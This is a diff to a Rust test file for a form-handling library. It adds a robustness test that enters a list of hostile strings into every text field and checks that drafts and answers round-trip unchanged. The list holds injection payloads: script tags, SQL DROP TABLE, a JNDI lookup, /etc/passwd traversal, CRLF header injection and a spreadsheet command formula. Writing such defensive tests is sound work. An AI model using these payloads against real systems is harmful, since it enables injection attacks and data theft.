@@ -5,7 +5,7 @@ use crate::{
     packs::{self, SMALL, at, enter},
 };
 use layak_form::{Change, DraftFault, Form, Place, Typed};
-use layak_rules::{Date, FactAt, Program};
+use layak_rules::{Date, FactAt, Program, program::FactKind};
 use proptest::prelude::*;
 use std::sync::Arc;
 
@@ -141,6 +141,60 @@ fn the_way_to_the_review_leads_by_what_a_draft_could_not_keep() {
     applicant::fill_in(&mut other, &mut dice);
     applicant::agree(&mut other);
     assert!(other.submission_json().is_ok());
+}
+
+const HOSTILE: [&str; 20] = [
+    "<script>alert(1)</script>",
+    "\"><img src=x onerror=alert(1)>",
+    "'; DROP TABLE cases; --",
+    "{{constructor.constructor('x')()}}",
+    "${jndi:ldap://example.com/a}",
+    "../../../../etc/passwd",
+    "%00%0d%0aSet-Cookie: a=b",
+    "a\0b",
+    "\u{202e}gnirts desrever",
+    "\u{200b}\u{200d}\u{feff}",
+    "e\u{301}\u{301}\u{301}\u{301}\u{301}",
+    "🏳️‍🌈👨‍👩‍👧‍👦",
+    "\u{10ffff}\u{fffe}",
+    "\u{85}\u{2028}\u{2029}",
+    "\\\"\\u0000\\ud800",
+    "=cmd|' /C calc'!A0",
+    "NaN",
+    "-9223372036854775809",
+    "__proto__",
+    "{\"draft\":1}",
+];
+
+#[test]
+fn hostile_texts_in_every_field_stay_what_they_are_and_break_nothing() {
+    for program in packs::all() {
+        let mut form = packs::form(&program);
+        let fields: Vec<FactAt> = form.answers().places(&program).collect();
+        // A choice is no text: what is none of its options is dropped when a draft is taken up.
+        let is_line = |at: &FactAt| {
+            let fact = &program.facts[usize::from(at.fact)];
+            fact.is_asked() && fact.options.is_empty() && fact.kind != FactKind::Boolean
+        };
+        let asked: Vec<FactAt> = fields.into_iter().filter(is_line).collect();
+        let long = "panjang ".repeat(10_000);
+        for hostile in HOSTILE.into_iter().chain([long.as_str()]) {
+            for &at in &asked {
+                assert!(form.enter(at, hostile));
+                assert_eq!(form.typed(at), &Typed::from(hostile));
+            }
+            let draft = form.draft_json(expiry());
+            let other = taken_up(&program, &draft);
+            // Only NUL, which JSON of ours never carries, comes back as the mark of an unreadable character.
+            assert_eq!(other.draft_json(expiry()), draft, "{hostile}");
+            let answers = layak_rules::answers::write(&program, form.answers(), |_, _| true);
+            let (read, problems) =
+                layak_rules::answers::read(&program, answers.as_bytes(), layak_rules::Mode::Draft).unwrap();
+            assert!(problems.is_empty());
+            assert!(asked.iter().all(|&at| read.get(&program, at) == form.answers().get(&program, at)));
+            let _ = (form.page_view(), form.verdicts(), form.review(), form.submission_json());
+        }
+    }
 }
 
 /// A text that can only come from the field at a place.
